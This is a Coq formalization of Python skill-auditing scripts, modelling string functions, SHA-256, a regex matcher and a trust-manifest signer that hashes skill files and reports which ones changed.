(** * Skill auditing scripts: risk scoring, line matching, URL egress and
      trust manifests

    A shallow embedding of three scripts of the repository,
    - [skills/amir-ag/clawhub-skill-scanner/scripts/scan_skill.py],
    - [skills/atlaspa/openclaw-egress/scripts/egress.py],
    - [skills/atlaspa/openclaw-signet/scripts/signet.py],
    together with the library functions they call ([hashlib.sha256], a
    backtracking matcher for the [re] patterns that occur in the scripts, the
    host-name part of [urllib.parse.urlparse]).

    Text is modelled as [string], that is, as the UTF-8 bytes of a Python
    [str].  Byte order on UTF-8 coincides with code-point order, so sorting is
    the same on both sides; the character classes of the matcher ([\s], [\w],
    [\d], case folding) are the ASCII ones. *)

From Stdlib Require Import ZArith NArith List Bool Ascii String Lia.
From Stdlib Require Import Sorting.Sorted Sorting.Permutation.
From Stdlib Require Import Structures.OrdersEx.
From stdpp Require Import base option list gmap strings sorting.

Import ListNotations.
Local Open Scope string_scope.
Local Open Scope list_scope.

(* ===================================================================== *)
(** ** Python string helpers                                              *)
(* ===================================================================== *)

Module PyStr.

(** [list_ascii_of_string] and back, under short names. *)
Definition chars (s : string) : list ascii := list_ascii_of_string s.
Definition of_chars (l : list ascii) : string := string_of_list_ascii l.

(** [str.startswith] on character lists. *)
Fixpoint starts_with (p l : list ascii) : bool :=
  match p, l with
  | [], _ => true
  | _ :: _, [] => false
  | a :: p', b :: l' => Ascii.eqb a b && starts_with p' l'
  end.

(** [p in l] for strings: some suffix of [l] starts with [p]. *)
Fixpoint contains_chars (p l : list ascii) : bool :=
  starts_with p l ||
  match l with
  | [] => false
  | _ :: l' => contains_chars p l'
  end.

(** [sub in s]. *)
Definition contains (sub s : string) : bool :=
  contains_chars (chars sub) (chars s).

(** [s.startswith(p)]. *)
Definition startswith (s p : string) : bool :=
  starts_with (chars p) (chars s).

(** [s.endswith(p)]. *)
Definition endswith (s p : string) : bool :=
  starts_with (rev (chars p)) (rev (chars s)).

(** [s.endswith((p1, ..., pn))]. *)
Definition endswith_any (s : string) (ps : list string) : bool :=
  existsb (endswith s) ps.

(** [s[:n]]. *)
Definition take (n : nat) (s : string) : string :=
  of_chars (firstn n (chars s)).

(** The ASCII white space of [str.isspace]: tab, line feed, vertical tab,
    form feed, carriage return, the four separators 0x1c-0x1f and space. *)
Definition is_space (c : ascii) : bool :=
  let n := nat_of_ascii c in
  ((9 <=? n)%nat && (n <=? 13)%nat) || ((28 <=? n)%nat && (n <=? 32)%nat).

Fixpoint lstrip_chars (l : list ascii) : list ascii :=
  match l with
  | c :: l' => if is_space c then lstrip_chars l' else l
  | [] => []
  end.

(** [s.strip()]. *)
Definition strip (s : string) : string :=
  of_chars (rev (lstrip_chars (rev (lstrip_chars (chars s))))).

(** [s.rstrip(cs)]: drop trailing characters that occur in [cs]. *)
Fixpoint lstrip_set (cs l : list ascii) : list ascii :=
  match l with
  | c :: l' => if existsb (Ascii.eqb c) cs then lstrip_set cs l' else l
  | [] => []
  end.

Definition rstrip_set (cs : string) (s : string) : string :=
  of_chars (rev (lstrip_set (chars cs) (rev (chars s)))).

(** ASCII [str.lower]. *)
Definition lower_char (c : ascii) : ascii :=
  let n := nat_of_ascii c in
  if (65 <=? n)%nat && (n <=? 90)%nat then ascii_of_nat (n + 32) else c.

Definition lower (s : string) : string :=
  of_chars (map lower_char (chars s)).

(** [s.split("\n")]: always at least one piece. *)
Fixpoint split_lines_chars (cur : list ascii) (l : list ascii)
  : list (list ascii) :=
  match l with
  | [] => [rev cur]
  | c :: l' =>
      if Ascii.eqb c "010"%char
      then rev cur :: split_lines_chars [] l'
      else split_lines_chars (c :: cur) l'
  end.

Definition split_lines (s : string) : list string :=
  map of_chars (split_lines_chars [] (chars s)).

End PyStr.

(* ===================================================================== *)
(** ** [hashlib.sha256]                                                   *)
(* ===================================================================== *)

(** SHA-256 (FIPS 180-4) on byte strings, with 32-bit words as [N] and the
    wrap-around written out.  [hexdigest] is what
    [h = hashlib.sha256(); h.update(m1); ...; h.update(mk); h.hexdigest()]
    returns for [m1 ++ ... ++ mk]. *)
Module Sha256.

Local Open Scope N_scope.

Definition mask32 : N := 0xFFFFFFFF.
Definition add32 (a b : N) : N := N.land (a + b) mask32.
Definition rotr (n x : N) : N :=
  N.lor (N.shiftr x n) (N.land (N.shiftl x (32 - n)) mask32).
Definition not32 (x : N) : N := N.lxor x mask32.

Definition Ch (x y z : N) : N := N.lxor (N.land x y) (N.land (not32 x) z).
Definition Maj (x y z : N) : N :=
  N.lxor (N.lxor (N.land x y) (N.land x z)) (N.land y z).
Definition bsig0 (x : N) : N :=
  N.lxor (N.lxor (rotr 2 x) (rotr 13 x)) (rotr 22 x).
Definition bsig1 (x : N) : N :=
  N.lxor (N.lxor (rotr 6 x) (rotr 11 x)) (rotr 25 x).
Definition ssig0 (x : N) : N :=
  N.lxor (N.lxor (rotr 7 x) (rotr 18 x)) (N.shiftr x 3).
Definition ssig1 (x : N) : N :=
  N.lxor (N.lxor (rotr 17 x) (rotr 19 x)) (N.shiftr x 10).

(** The first sixty-four primes. *)
Definition primes : list N :=
  [ 2; 3; 5; 7; 11; 13; 17; 19; 23; 29; 31; 37; 41; 43; 47; 53;
    59; 61; 67; 71; 73; 79; 83; 89; 97; 101; 103; 107; 109; 113; 127; 131;
    137; 139; 149; 151; 157; 163; 167; 173; 179; 181; 191; 193; 197; 199;
    211; 223; 227; 229; 233; 239; 241; 251; 257; 263; 269; 271; 277; 281;
    283; 293; 307; 311 ].

(** The largest [r] below [2^bits] with [r^3 <= n]. *)
Fixpoint cube_root (bits : nat) (r n : N) : N :=
  match bits with
  | O => r
  | S b =>
      let r' := r + 2 ^ N.of_nat b in
      cube_root b (if r' * r' * r' <=? n then r' else r) n
  end.

(** The first thirty-two bits of the fractional part of the cube root and
    of the square root of [p]. *)
Definition frac_cube_root (p : N) : N :=
  N.land (cube_root 36 0 (p * 2 ^ 96)) mask32.
Definition frac_sqrt (p : N) : N := N.land (N.sqrt (p * 2 ^ 64)) mask32.

(** The round constants: [frac_cube_root] of the first sixty-four primes. *)
Definition K : list N :=
  [ 1116352408; 1899447441; 3049323471; 3921009573; 961987163;
    1508970993; 2453635748; 2870763221; 3624381080; 310598401;
    607225278; 1426881987; 1925078388; 2162078206; 2614888103;
    3248222580; 3835390401; 4022224774; 264347078; 604807628;
    770255983; 1249150122; 1555081692; 1996064986; 2554220882;
    2821834349; 2952996808; 3210313671; 3336571891; 3584528711;
    113926993; 338241895; 666307205; 773529912; 1294757372;
    1396182291; 1695183700; 1986661051; 2177026350; 2456956037;
    2730485921; 2820302411; 3259730800; 3345764771; 3516065817;
    3600352804; 4094571909; 275423344; 430227734; 506948616;
    659060556; 883997877; 958139571; 1322822218; 1537002063;
    1747873779; 1955562222; 2024104815; 2227730452; 2361852424;
    2428436474; 2756734187; 3204031479; 3329325298 ].

(** The initial hash value: [frac_sqrt] of the first eight primes. *)
Definition H0 : list N :=
  [ 1779033703; 3144134277; 1013904242; 2773480762;
    1359893119; 2600822924; 528734635; 1541459225 ].

(** The message bytes, the bit [1], zeros up to 56 modulo 64, and the bit
    length as a big-endian 64-bit number. *)
Definition be_bytes (n : nat) (x : N) : list N :=
  map (fun i => N.land (N.shiftr x (8 * N.of_nat i)) 0xFF) (rev (seq 0 n)).

Definition pad (msg : list N) : list N :=
  let len := List.length msg in
  let zeros := ((119 - len mod 64) mod 64)%nat in
  msg ++ [0x80] ++ repeat 0 zeros ++ be_bytes 8 (8 * N.of_nat len).

Definition word_of_bytes (bs : list N) : N :=
  fold_left (fun acc b => N.lor (N.shiftl acc 8) b) bs 0.

(** Cut a list into pieces of [n] elements ([fuel] bounds the number of
    pieces). *)
Fixpoint chunks {A} (fuel n : nat) (l : list A) : list (list A) :=
  match fuel, l with
  | O, _ => []
  | _, [] => []
  | S fuel', _ => firstn n l :: chunks fuel' n (skipn n l)
  end.

Definition words_of_block (blk : list N) : list N :=
  map word_of_bytes (chunks 16 4 blk).

(** One round: the head of the sixteen-word window [w] is the word of the
    message schedule for this round; the window then slides by one. *)
Definition round (st : list N * list N) (k : N) : list N * list N :=
  let '(v, w) := st in
  match v with
  | [a; b; c; d; e; f; g; h] =>
      let wt := nth 0 w 0 in
      let t1 := add32 (add32 (add32 (add32 h (bsig1 e)) (Ch e f g)) k) wt in
      let t2 := add32 (bsig0 a) (Maj a b c) in
      let wn := add32 (add32 (add32 (ssig1 (nth 14 w 0)) (nth 9 w 0))
                             (ssig0 (nth 1 w 0))) wt in
      ([add32 t1 t2; a; b; c; add32 d t1; e; f; g], tl w ++ [wn])
  | _ => st
  end.

Definition compress (h : list N) (blk : list N) : list N :=
  let '(v, _) := fold_left round K (h, words_of_block blk) in
  map (fun p => add32 (fst p) (snd p)) (combine h v).

Definition digest_words (msg : list N) : list N :=
  let p := pad msg in
  fold_left compress (chunks (S (List.length p)) 64 p) H0.

Definition hex_digit (n : N) : ascii :=
  nth (N.to_nat n) (list_ascii_of_string "0123456789abcdef") "0"%char.

Definition hex_of_word (w : N) : list ascii :=
  flat_map (fun b => [hex_digit (N.shiftr b 4); hex_digit (N.land b 0xF)])
           (be_bytes 4 w).

Definition hexdigest (msg : string) : string :=
  string_of_list_ascii
    (flat_map hex_of_word
       (digest_words (map N_of_ascii (list_ascii_of_string msg)))).

End Sha256.

(* ===================================================================== *)
(** ** Sorting strings as Python does                                     *)
(* ===================================================================== *)

(** [a <= b] on Python strings: lexicographic on the characters. *)
Definition str_le (a b : string) : Prop := String.leb a b = true.
Definition str_lt (a b : string) : Prop := String.ltb a b = true.

#[global] Instance str_le_dec (a b : string) : Decision (str_le a b).
Proof. unfold str_le. apply _. Defined.

(** [sorted(l)] for a list of strings.  Every sorting algorithm returns the
    same list here, because strings that compare equal are identical. *)
Definition sorted (l : list string) : list string := merge_sort str_le l.

(** [sorted(set(l))]. *)
Definition sorted_set (l : list string) : list string :=
  sorted (remove_dups l).

(* ===================================================================== *)
(** ** Exceptions and results                                             *)
(* ===================================================================== *)

(** The exceptions that escape the modelled functions. *)
Inductive exn : Type :=
| KeyError (key : string)
| NotADirectoryError
| ValueError (msg : string).

Inductive result (A : Type) : Type :=
| Ok (a : A)
| Raise (e : exn).
Arguments Ok {A} a.
Arguments Raise {A} e.

#[global] Instance result_ret : MRet result := fun A a => Ok a.
#[global] Instance result_bind : MBind result := fun A B k r =>
  match r with
  | Ok a => k a
  | Raise e => Raise e
  end.

(** A Python [dict] with string keys whose iteration order matters: an
    association list in insertion order, keys without repetition. *)
Module Dict.

Definition get {V} (k : string) (d : list (string * V)) : option V :=
  match List.find (fun e => String.eqb (fst e) k) d with
  | Some e => Some (snd e)
  | None => None
  end.

(** [d[k] = v]: an existing key keeps its place. *)
Fixpoint set {V} (k : string) (v : V) (d : list (string * V))
  : list (string * V) :=
  match d with
  | [] => [(k, v)]
  | (k', v') :: d' =>
      if String.eqb k' k then (k, v) :: d' else (k', v') :: set k v d'
  end.

Definition keys {V} (d : list (string * V)) : list string := map fst d.

(** What [json.dump(..., sort_keys=True)] followed by [json.load] makes of
    a [dict]: the same items, in the order of their keys. *)
Definition sort_keys {V} (d : list (string * V)) : list (string * V) :=
  flat_map (fun k => match get k d with Some v => [(k, v)] | None => [] end)
           (sorted (keys d)).

End Dict.


(* ===================================================================== *)
(** ** The [re] module, for the patterns of the scripts                   *)
(* ===================================================================== *)

(** A backtracking matcher for the part of Python's regular expressions
    that the scripts use: literals, [.], sets and ranges, the classes
    [\s \d \w] and their complements, the word boundary [\b], groups,
    alternation, greedy repetition and negative look-ahead.  Alternatives
    are tried in Python's order (left branch first, longest repetition
    first), so the first match found is the one Python reports. *)
Module Re.

Inductive class : Type := Space | Digit | Word.

Inductive item : Type :=
| IChar (c : ascii)
| IRange (lo hi : ascii)
| IClass (neg : bool) (k : class).

Inductive re : Type :=
| Eps
| Lit (c : ascii)
| Dot
| CSet (neg : bool) (items : list item)
| Cls (neg : bool) (k : class)
| Boundary (neg : bool)
| Seq (r1 r2 : re)
| Alt (r1 r2 : re)
| Rep (lo : nat) (hi : option nat) (r : re)
| NotAhead (r : re).

Definition code (c : ascii) : nat := nat_of_ascii c.

Definition between (lo hi : nat) (c : ascii) : bool :=
  (lo <=? code c)%nat && (code c <=? hi)%nat.

Definition is_digit (c : ascii) : bool := between 48 57 c.
Definition is_upper (c : ascii) : bool := between 65 90 c.
Definition is_lower (c : ascii) : bool := between 97 122 c.
Definition is_word (c : ascii) : bool :=
  is_digit c || is_upper c || is_lower c || Ascii.eqb c "_"%char.

Definition upper_char (c : ascii) : ascii :=
  if is_lower c then ascii_of_nat (code c - 32) else c.

Definition in_class (k : class) (c : ascii) : bool :=
  match k with
  | Space => PyStr.is_space c
  | Digit => is_digit c
  | Word => is_word c
  end.

Definition in_item (it : item) (c : ascii) : bool :=
  match it with
  | IChar x => Ascii.eqb x c
  | IRange lo hi => between (code lo) (code hi) c
  | IClass neg k => xorb neg (in_class k c)
  end.

(** Membership in a set; with [re.IGNORECASE] a character is also in the
    set when its lower-case or upper-case form is. *)
Definition in_items (ic : bool) (items : list item) (c : ascii) : bool :=
  existsb (fun it => in_item it c) items
  || (ic && (existsb (fun it => in_item it (PyStr.lower_char c)) items
             || existsb (fun it => in_item it (upper_char c)) items)).

Definition lit_eq (ic : bool) (x c : ascii) : bool :=
  if ic then Ascii.eqb (PyStr.lower_char x) (PyStr.lower_char c)
  else Ascii.eqb x c.

Definition word_opt (c : option ascii) : bool :=
  match c with
  | Some x => is_word x
  | None => false
  end.

(** [run r ic prev s k]: match [r] at the position whose previous character
    is [prev] and whose remaining input is [s]; [k] is what has to match
    after it.  The answer is the input left after the whole match. *)
Fixpoint run (r : re) (ic : bool) (prev : option ascii) (s : list ascii)
  (k : option ascii -> list ascii -> option (list ascii))
  {struct r} : option (list ascii) :=
  match r with
  | Eps => k prev s
  | Lit x =>
      match s with
      | c :: s' => if lit_eq ic x c then k (Some c) s' else None
      | [] => None
      end
  | Dot =>
      match s with
      | c :: s' => if Ascii.eqb c "010"%char then None else k (Some c) s'
      | [] => None
      end
  | CSet neg items =>
      match s with
      | c :: s' => if xorb neg (in_items ic items c) then k (Some c) s' else None
      | [] => None
      end
  | Cls neg cl =>
      match s with
      | c :: s' => if xorb neg (in_class cl c) then k (Some c) s' else None
      | [] => None
      end
  | Boundary neg =>
      if xorb neg (xorb (word_opt prev) (word_opt (head s)))
      then k prev s else None
  | Seq r1 r2 => run r1 ic prev s (fun p s' => run r2 ic p s' k)
  | Alt r1 r2 =>
      match run r1 ic prev s k with
      | Some out => Some out
      | None => run r2 ic prev s k
      end
  | Rep lo hi r' =>
      (* the optional iterations, each of which has to consume input *)
      let more :=
        fix more (fuel : nat) (left : option nat) (p : option ascii)
                 (s0 : list ascii) : option (list ascii) :=
          match fuel with
          | O => k p s0
          | S fuel' =>
              match left with
              | Some O => k p s0
              | _ =>
                  match run r' ic p s0
                          (fun p' s' =>
                             if (List.length s' <? List.length s0)%nat
                             then more fuel' (option_map Nat.pred left) p' s'
                             else None) with
                  | Some out => Some out
                  | None => k p s0
                  end
              end
          end in
      (* the [lo] iterations that are required *)
      let must :=
        fix must (n : nat) (p : option ascii) (s0 : list ascii)
          : option (list ascii) :=
          match n with
          | O => more (S (List.length s0))
                      (option_map (fun h => h - lo)%nat hi) p s0
          | S n' => run r' ic p s0 (fun p' s' => must n' p' s')
          end in
      must lo prev s
  | NotAhead r' =>
      match run r' ic prev s (fun _ s' => Some s') with
      | Some _ => None
      | None => k prev s
      end
  end.

(** A match of [r] that starts exactly here: the input left after it. *)
Definition match_here (r : re) (ic : bool) (prev : option ascii)
  (s : list ascii) : option (list ascii) :=
  run r ic prev s (fun _ s' => Some s').

(** The leftmost match: the input before it, the match, the rest. *)
Fixpoint find_from (r : re) (ic : bool) (prev : option ascii)
  (before : list ascii) (s : list ascii)
  : option (list ascii * list ascii * list ascii) :=
  match match_here r ic prev s with
  | Some rest =>
      Some (rev before, firstn (List.length s - List.length rest) s, rest)
  | None =>
      match s with
      | [] => None
      | c :: s' => find_from r ic (Some c) (c :: before) s'
      end
  end.

(** [pattern.search(s) is not None]. *)
Definition search (r : re) (ic : bool) (s : string) : bool :=
  match find_from r ic None [] (PyStr.chars s) with
  | Some _ => true
  | None => false
  end.

(** [[m.group(0) for m in pattern.finditer(s)]], for patterns that do not
    match the empty string: the search resumes where the last match ends. *)
Fixpoint finditer_from (fuel : nat) (r : re) (ic : bool)
  (prev : option ascii) (s : list ascii) : list string :=
  match fuel with
  | O => []
  | S fuel' =>
      match find_from r ic prev [] s with
      | None => []
      | Some (before, m, rest) =>
          match m with
          | [] => []
          | _ :: _ =>
              PyStr.of_chars m
              :: finditer_from fuel' r ic (last m) rest
          end
      end
  end.

Definition finditer (r : re) (ic : bool) (s : string) : list string :=
  finditer_from (S (String.length s)) r ic None (PyStr.chars s).

(** *** [re.compile]: reading a pattern

    [None] stands for a pattern outside the part of the syntax read here
    (anchors, lazy quantifiers, back-references, flags, escapes of letters
    other than [s d w S D W b B]); no pattern of the scripts is. *)

Definition is_alnum (c : ascii) : bool :=
  is_digit c || is_upper c || is_lower c.

(** What a backslash followed by [c] stands for, outside a set. *)
Definition escape (c : ascii) : option re :=
  if Ascii.eqb c "s" then Some (Cls false Space)
  else if Ascii.eqb c "S" then Some (Cls true Space)
  else if Ascii.eqb c "d" then Some (Cls false Digit)
  else if Ascii.eqb c "D" then Some (Cls true Digit)
  else if Ascii.eqb c "w" then Some (Cls false Word)
  else if Ascii.eqb c "W" then Some (Cls true Word)
  else if Ascii.eqb c "b" then Some (Boundary false)
  else if Ascii.eqb c "B" then Some (Boundary true)
  else if is_alnum c then None
  else Some (Lit c).

(** The same inside a set. *)
Definition escape_item (c : ascii) : option item :=
  if Ascii.eqb c "s" then Some (IClass false Space)
  else if Ascii.eqb c "S" then Some (IClass true Space)
  else if Ascii.eqb c "d" then Some (IClass false Digit)
  else if Ascii.eqb c "D" then Some (IClass true Digit)
  else if Ascii.eqb c "w" then Some (IClass false Word)
  else if Ascii.eqb c "W" then Some (IClass true Word)
  else if is_alnum c then None
  else Some (IChar c).

(** The items of a set, up to the closing bracket. *)
Fixpoint parse_items (fuel : nat) (s : list ascii)
  : option (list item * list ascii) :=
  match fuel with
  | O => None
  | S fuel' =>
      match s with
      | [] => None
      | "]"%char :: s' => Some ([], s')
      | "\"%char :: c :: s' =>
          match escape_item c, parse_items fuel' s' with
          | Some it, Some (its, rest) => Some (it :: its, rest)
          | _, _ => None
          end
      | "\"%char :: [] => None
      | lo :: "-"%char :: "]"%char :: s' => Some ([IChar lo; IChar "-"], s')
      | _ :: "-"%char :: "\"%char :: _ => None
      | lo :: "-"%char :: hi :: s' =>
          if (code lo <=? code hi)%nat then
            match parse_items fuel' s' with
            | Some (its, rest) => Some (IRange lo hi :: its, rest)
            | None => None
            end
          else None
      | c :: s' =>
          match parse_items fuel' s' with
          | Some (its, rest) => Some (IChar c :: its, rest)
          | None => None
          end
      end
  end.

Definition parse_set (s : list ascii) : option (re * list ascii) :=
  let '(neg, s1) :=
    match s with
    | "^"%char :: s' => (true, s')
    | _ => (false, s)
    end in
  match s1 with
  | "]"%char :: _ => None
  | _ =>
      match parse_items (S (List.length s1)) s1 with
      | Some (its, rest) => Some (CSet neg its, rest)
      | None => None
      end
  end.

(** A decimal number, if the input starts with one. *)
Fixpoint parse_nat (acc : option nat) (s : list ascii)
  : option nat * list ascii :=
  match s with
  | c :: s' =>
      if is_digit c
      then parse_nat (Some (10 * default 0 acc + (code c - 48))%nat) s'
      else (acc, s)
  | [] => (acc, s)
  end.

Definition is_quantifier_char (c : ascii) : bool :=
  Ascii.eqb c "*" || Ascii.eqb c "+" || Ascii.eqb c "?".

(** The repetition that follows an atom [a], if any; a quantifier on a
    quantifier is refused. *)
Definition parse_quant (a : re) (s : list ascii) : option (re * list ascii) :=
  let done (q : re) (rest : list ascii) :=
    match rest with
    | c :: _ => if is_quantifier_char c || Ascii.eqb c "{"
                then None else Some (q, rest)
    | [] => Some (q, rest)
    end in
  match s with
  | "*"%char :: s' => done (Rep 0 None a) s'
  | "+"%char :: s' => done (Rep 1 None a) s'
  | "?"%char :: s' => done (Rep 0 (Some 1) a) s'
  | "{"%char :: s' =>
      match parse_nat None s' with
      | (Some lo, "}"%char :: s2) => done (Rep lo (Some lo) a) s2
      | (Some lo, ","%char :: s2) =>
          match parse_nat None s2 with
          | (None, "}"%char :: s3) => done (Rep lo None a) s3
          | (Some hi, "}"%char :: s3) =>
              if (lo <=? hi)%nat then done (Rep lo (Some hi) a) s3 else None
          | _ => None
          end
      | _ => None
      end
  | _ => Some (a, s)
  end.

Definition expect_close (p : option (re * list ascii)) (wrap : re -> re)
  : option (re * list ascii) :=
  match p with
  | Some (r, ")"%char :: rest) => Some (wrap r, rest)
  | _ => None
  end.

Fixpoint parse_alt (fuel : nat) (s : list ascii) : option (re * list ascii) :=
  match fuel with
  | O => None
  | S fuel' =>
      match parse_seq fuel' s with
      | Some (r1, "|"%char :: s') =>
          match parse_alt fuel' s' with
          | Some (r2, rest) => Some (Alt r1 r2, rest)
          | None => None
          end
      | other => other
      end
  end
with parse_seq (fuel : nat) (s : list ascii) : option (re * list ascii) :=
  match fuel with
  | O => None
  | S fuel' =>
      match s with
      | [] => Some (Eps, s)
      | "|"%char :: _ => Some (Eps, s)
      | ")"%char :: _ => Some (Eps, s)
      | _ =>
          match parse_atom fuel' s with
          | Some (a, s1) =>
              match parse_quant a s1 with
              | Some (q, s2) =>
                  match parse_seq fuel' s2 with
                  | Some (Eps, rest) => Some (q, rest)
                  | Some (r, rest) => Some (Seq q r, rest)
                  | None => None
                  end
              | None => None
              end
          | None => None
          end
      end
  end
with parse_atom (fuel : nat) (s : list ascii) : option (re * list ascii) :=
  match fuel with
  | O => None
  | S fuel' =>
      match s with
      | [] => None
      | "("%char :: "?"%char :: ":"%char :: s' =>
          expect_close (parse_alt fuel' s') (fun r => r)
      | "("%char :: "?"%char :: "!"%char :: s' =>
          expect_close (parse_alt fuel' s') NotAhead
      | "("%char :: "?"%char :: _ => None
      | "("%char :: s' => expect_close (parse_alt fuel' s') (fun r => r)
      | "["%char :: s' => parse_set s'
      | "\"%char :: c :: s' =>
          match escape c with
          | Some r => Some (r, s')
          | None => None
          end
      | "."%char :: s' => Some (Dot, s')
      | c :: s' =>
          if is_quantifier_char c
             || existsb (Ascii.eqb c) (PyStr.chars "{}^$\")
          then None
          else Some (Lit c, s')
      end
  end.

Definition compile (pattern : string) : option re :=
  let s := PyStr.chars pattern in
  match parse_alt (3 * List.length s + 3) s with
  | Some (r, []) => Some r
  | _ => None
  end.

(** [re.search(pattern, s, flags)] is not [None]; [ic] is
    [re.IGNORECASE]. *)
Definition re_search (pattern : string) (ic : bool) (s : string) : bool :=
  match compile pattern with
  | Some r => search r ic s
  | None => false
  end.

(** [[m.group(0) for m in re.finditer(pattern, s, flags)]]. *)
Definition re_finditer (pattern : string) (ic : bool) (s : string)
  : list string :=
  match compile pattern with
  | Some r => finditer r ic s
  | None => []
  end.

End Re.
(* ===================================================================== *)
(** ** signet.py: the trust manifest                                      *)
(* ===================================================================== *)

Module Signet.

Definition SIGNET_DIR : string := ".signet".

Definition SKIP_DIRS : list string :=
  [ ".git"; "node_modules"; "__pycache__"; ".venv"; "venv";
    ".integrity"; ".quarantine"; ".snapshots"; ".ledger"; SIGNET_DIR ].

Definition SELF_SKILL_DIRS : list string :=
  [ "openclaw-signet"; "openclaw-signet-pro" ].

Definition in_list (x : string) (l : list string) : bool :=
  existsb (String.eqb x) l.

(** *** The file tree

    A directory lists its entries in the order in which the file system
    hands them out ([os.scandir]); a file has its bytes, or [None] when
    opening or reading it raises [OSError].  Symbolic links are not
    modelled. *)
#[warnings="-register-all"]
Inductive node : Type :=
| File (content : option string)
| Dir (entries : list (string * node)).

Definition is_dir (n : node) : bool :=
  match n with Dir _ => true | File _ => false end.

(** What a path names inside a directory: the first entry with that name. *)
Definition lookup_entry {A} (name : string) (es : list (string * A))
  : option A := Dict.get name es.

(** [str(path)] for a relative path, given by its parts. *)
Definition path_str (parts : list string) : string := String.concat "/" parts.

(** *** [file_hash]: SHA-256 of file contents, [None] on [OSError]. *)
Definition file_hash (content : option string) : option string :=
  match content with
  | Some bytes => Some (Sha256.hexdigest bytes)
  | None => None
  end.

(** Truth value of a [str]. *)
Definition truthy (s : string) : bool := negb (String.eqb s "").

(** *** The loop of [skill_hash]

    [os.walk] is top-down: a directory's own files are visited before its
    subdirectories, and the loop body replaces [dirs] by the sorted names
    that are not in [SKIP_DIRS], which is the order in which [os.walk] then
    descends.  [walk root n] is the list of [(parts of rel, fh)] in the order
    in which the loop reaches [file_hashes[rel] = fh]; [root] is the
    directory being listed, relative to [skill_dir]. *)
Fixpoint walk (root : list string) (n : node) : list (list string * string) :=
  match n with
  | File _ => []
  | Dir entries =>
      let filenames :=
        map fst (List.filter (fun e => negb (is_dir (snd e))) entries) in
      let dirs :=
        map fst (List.filter (fun e => is_dir (snd e)) entries) in
      let dirs :=
        sorted (List.filter (fun d => negb (in_list d SKIP_DIRS)) dirs) in
      let below :=
        (fix go (es : list (string * node)) :=
           match es with
           | [] => []
           | (name, child) :: es' =>
               (name, walk (root ++ [name]) child) :: go es'
           end) entries in
      flat_map
        (fun fname =>
           match lookup_entry fname entries with
           | Some (File content) =>
               match file_hash content with
               | Some fh => if truthy fh then [(root ++ [fname], fh)] else []
               | None => []
               end
           | _ => []
           end)
        (sorted filenames)
      ++ flat_map
           (fun d => match lookup_entry d below with
                     | Some sub => sub
                     | None => []
                     end)
           dirs
  end.

(** The bytes fed to the running digest for one file: [f"{rel}:{fh}"]. *)
Definition digest_line (e : list string * string) : string :=
  path_str (fst e) ++ ":" ++ snd e.

(** The digest after [h.update] of every line, in order. *)
Definition fold_digest (visited : list (list string * string)) : string :=
  Sha256.hexdigest (String.concat "" (map digest_line visited)).

(** The dict after [file_hashes[rel] = fh] for every visited file. *)
Definition file_hashes_of (visited : list (list string * string))
  : gmap string string :=
  fold_left (fun m e => <[path_str (fst e) := snd e]> m) visited ∅.

(** [skill_hash(skill_dir)]: the composite hash and the per-file hashes. *)
Definition skill_hash (skill_dir : node) : string * gmap string string :=
  let visited := walk [] skill_dir in
  (fold_digest visited, file_hashes_of visited).

(** *** The manifest *)

Record skill_record : Type := {
  composite_hash : string;
  files : option (gmap string string);
  signed_at : string;
  file_count : nat;
}.

(** The top-level object.  A key that is absent is [None]; the object without
    any key is the empty dict, which Python takes for false. *)
Record manifest : Type := {
  version : option nat;
  created : option string;
  updated : option string;
  skills : option (list (string * skill_record));
}.

Definition manifest_truthy (m : manifest) : bool :=
  match version m, created m, updated m, skills m with
  | None, None, None, None => false
  | _, _, _, _ => true
  end.

(** The state of [<workspace>/.signet/manifest.json]. *)
Inductive manifest_file : Type :=
| Absent                     (* [mp.exists()] is false *)
| Unreadable                 (* [open] raises [OSError] *)
| Malformed                  (* [json.load] raises [JSONDecodeError] *)
| Parsed (m : manifest).

(** A workspace: the node at [<workspace>/skills], if any, and the manifest
    file. *)
Record workspace : Type := {
  skills_dir : option node;
  manifest_json : manifest_file;
}.

(** *** [find_skills]: the installed skill directories, sorted by name. *)
Definition find_skills (ws : workspace) : result (list (string * node)) :=
  match skills_dir ws with
  | None => Ok []
  | Some (File _) => Raise NotADirectoryError
  | Some (Dir entries) =>
      Ok (flat_map
            (fun name =>
               match lookup_entry name entries with
               | Some (Dir sub) =>
                   if in_list name SELF_SKILL_DIRS then []
                   else if PyStr.startswith name ".quarantine" then []
                   else match lookup_entry "SKILL.md" sub with
                        | Some _ => [(name, Dir sub)]
                        | None => []
                        end
               | _ => []
               end)
            (sorted (map fst entries)))
  end.

(** *** [load_manifest] and [save_manifest] *)
Definition load_manifest (ws : workspace) : option manifest :=
  match manifest_json ws with
  | Absent => None
  | Unreadable => None
  | Malformed => None
  | Parsed m => Some m
  end.

Definition save_manifest (ws : workspace) (m : manifest) : workspace :=
  {| skills_dir := skills_dir ws;
     manifest_json :=
       Parsed {| version := version m; created := created m;
                 updated := updated m;
                 skills := option_map Dict.sort_keys (skills m) |} |}.

(** *** What the commands print and return

    The report lines of [cmd_sign] and [cmd_verify], without their layout
    (banner, time stamp, summary counts). *)
Inductive delta : Type :=
| MODIFIED (fpath : string)
| ADDED (fpath : string)
| REMOVED (fpath : string).

Inductive line : Type :=
| NO_MANIFEST                          (* No trust manifest found. *)
| SKILL_NOT_FOUND (name : string)
| SIGNED (name composite : string) (nfiles : nat)
| UNSIGNED (name : string)
| VERIFIED (name : string)
| TAMPERED (name : string) (changed : list delta)
| MISSING (name : string).

(** Truth value of [d.get(k)] for a dict of strings. *)
Definition truthy_opt (h : option string) : bool :=
  match h with
  | Some s => truthy s
  | None => false
  end.

Definition dict_keys (d : gmap string string) : list string :=
  map fst (map_to_list d).

(** "Detail what changed": the loop over [sorted(all_paths)]. *)
Definition changes (trusted_files files : gmap string string) : list delta :=
  let all_paths := sorted_set (dict_keys trusted_files ++ dict_keys files) in
  flat_map
    (fun fpath =>
       let old_h := trusted_files !! fpath in
       let new_h := files !! fpath in
       if truthy_opt old_h && truthy_opt new_h
          && negb (bool_decide (old_h = new_h))
       then [MODIFIED fpath]
       else if truthy_opt new_h && negb (truthy_opt old_h)
       then [ADDED fpath]
       else if truthy_opt old_h && negb (truthy_opt new_h)
       then [REMOVED fpath]
       else [])
    all_paths.

(** The three lists of [cmd_verify] and what has been printed so far. *)
Record verify_state : Type := {
  tampered : list string;
  unsigned : list string;
  clean : list string;
  printed : list line;
}.

(** [manifest.get("skills", {})]. *)
Definition manifest_skills (m : manifest) : list (string * skill_record) :=
  match skills m with
  | Some d => d
  | None => []
  end.

